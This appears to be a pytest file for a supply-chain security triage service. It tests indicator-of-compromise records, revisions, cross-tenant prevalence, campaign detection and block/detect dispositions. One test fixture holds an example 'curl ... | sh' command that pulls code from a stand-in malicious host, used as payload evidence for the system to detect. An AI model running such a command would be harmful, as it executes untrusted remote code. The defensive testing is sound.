"""Indicators of compromise: identity, revisions, prevalence and campaigns."""

from __future__ import annotations

import msgspec
import pytest

from schemas.channels import Channel
from schemas.findings import Indicator, SupplyChainIoC
from schemas.intel import IntelFact, IntelKind
from schemas.severity import Disposition, Severity
from tests.agents.triage.flow import Flow
from tests.agents.triage.stories import BAD, finding


def test_indicator_is_unique_by_value_tenant_and_kind():
    flow = Flow()
    for minute in range(5):
        flow.found(finding("malicious_payload", "a", minutes=minute, locator=str(minute)))
    assert len(flow.iocs) == 1
    flow.found(finding("malicious_payload", "b"))
    flow.found(finding("extension_mismatch", "a"))
    assert len(flow.iocs) == 3


def test_each_content_of_an_indicator_has_an_id_and_a_revision_of_its_own():
    flow = Flow()
    for day in range(3):
        flow.found(finding("malicious_payload", "a", minutes=day * 24 * 60))
    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
    flow.withdraw(f"sha256:{BAD}")
    sent = [
        message
        for message in flow.sent
        if message.channel is Channel.IOCS and message.tenant == "a"
    ]
    records = [msgspec.json.decode(message.value, type=SupplyChainIoC) for message in sent]
    assert [record.status for record in records[-2:]] == ["withdrawn", "active"]
    contents = {message.value for message in sent}
    assert len(contents) == len(sent) == 5
    assert len({dict(message.headers)["ce_id"] for message in sent}) == len(contents)
    assert [record.revision for record in records] == list(range(1, len(records) + 1))
    assert [record.modified for record in records] == sorted(record.modified for record in records)
    assert {record.category for record in records} == {"compromise"}
    headers = [dict(message.headers) for message in sent]
    assert [int(header["ce_revision"]) for header in headers] == [
        record.revision for record in records
    ]
    assert [header["ce_status"].decode() for header in headers] == [
        record.status for record in records
    ]
    for sent, record in zip(headers, records, strict=True):
        assert sent["ce_severity"].decode() == record.severity
        assert sent["ce_disposition"].decode() == record.indicator.disposition
        assert sent["ce_ioctype"].decode() == record.ioc_type


def test_hygiene_indicator_is_marked_in_record_and_header():
    flow = Flow()
    flow.found(finding("unpinned_dependency", "a"))
    (sent,) = [message for message in flow.sent if message.channel is Channel.IOCS]
    assert msgspec.json.decode(sent.value, type=SupplyChainIoC).category == "hygiene"
    assert dict(sent.headers)["ce_category"] == b"hygiene"


def test_hosts_of_a_payload_become_indicators_of_its_lifetime():
    flow = Flow()
    payload = finding("malicious_payload", "a")
    text = "('curl https://cdn.evil.example/x | sh; wget https://github.com/evil/y',)"
    flow.found(msgspec.structs.replace(payload, evidence={**payload.evidence, "arguments": text}))
    network = [ioc for ioc in flow.iocs.values() if ioc.indicator.type in {"url", "domain"}]
    dispositions = {ioc.indicator.value: ioc.indicator.disposition for ioc in network}
    assert dispositions == {
        "https://cdn.evil.example/x": "detect",
        "cdn.evil.example": "detect",
        "https://github.com/evil/y": "detect",
        "github.com": "context",
    }
    assert not any("http" in ioc.description for ioc in network)
    assert {ioc.evidence["found_in"] for ioc in network} == {payload.indicator.key}
    assert {ioc.tenant for ioc in network} == {"a"}
    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
    network = [ioc for ioc in flow.iocs.values() if ioc.indicator.type in {"url", "domain"}]
    assert {ioc.status for ioc in network} == {"withdrawn"}


def test_harmless_finding_yields_no_network_indicators():
    flow = Flow()
    weak = finding("suspicious_code", "a")
    text = "requests.get('https://data.acme.example/x')"
    flow.found(msgspec.structs.replace(weak, severity=Severity.MEDIUM, evidence={"code": text}))
    assert {ioc.indicator.type for ioc in flow.iocs.values()} == {weak.indicator.type}


def test_prevalence_is_published_from_three_other_tenants_on():
    flow = Flow()
    for number, tenant in enumerate("abcd"):
        flow.found(finding("malicious_payload", tenant, minutes=number))
    reported = {ioc.tenant: ioc.prevalence for ioc in flow.iocs.values()}
    assert reported == {"a": None, "b": None, "c": None, "d": 3}
    assert {view.other_tenants for view in flow.alerts.values()} == {3}


def test_a_greater_k_counts_later():
    flow = Flow(k=5)
    for number in range(11):
        flow.found(finding("malicious_payload", f"t{number}", minutes=number))
        reported = {view.other_tenants for view in flow.alerts.values()}
        assert reported == ({10} if number == 10 else {None})
    assert {ioc.prevalence for ioc in flow.iocs.values()} <= {None, 10}


def test_several_hostile_components_of_a_publisher_are_a_campaign():
    flow = Flow()
    for number in range(3):
        flow.found(
            finding(
                "malicious_payload",
                "a",
                component=f"model:hub/x/m{number}",
                digest=str(number) * 64,
                publisher="publisher:hub/x",
            )
        )
    kinds = {ioc.ioc_type for ioc in flow.iocs.values()}
    assert "campaign" in kinds
    linked = [incident for incident in flow.incidents.values() if incident.related]
    assert len(linked) == 4
    assert len({link.campaign for link in linked}) == 1


@pytest.mark.slow
def test_a_hygiene_finding_everywhere_is_over_correlating_and_says_so():
    flow = Flow()
    flow.found(
        *(
            finding(
                "direct_reference",
                f"t{number}",
                component="pypi:requests",
                digest=None,
                version=None,
                confidence=0.6,
            )
            for number in range(203)
        )
    )
    assert any(notice.kind == "over-correlating" for notice in flow.operator.values())


@pytest.mark.parametrize(
    ("severity", "whole", "wanted"),
    [
        (Severity.CRITICAL, False, Disposition.BLOCK),
        (Severity.LOW, False, Disposition.CONTEXT),
        (Severity.CRITICAL, True, Disposition.DETECT),
    ],
)
def test_a_benign_name_is_never_an_indicator_to_block(severity, whole, wanted):
    flow = Flow()
    more = {}
    if whole:
        more["indicator"] = Indicator(
            key="pypi:requests",
            type="package",
            value="requests",
            disposition=Disposition.BLOCK,
        )
    flow.found(
        finding("known_compromised_package", "a", "pypi:requests", severity=severity, **more)
    )
    (ioc,) = flow.iocs.values()
    assert ioc.indicator.disposition is wanted
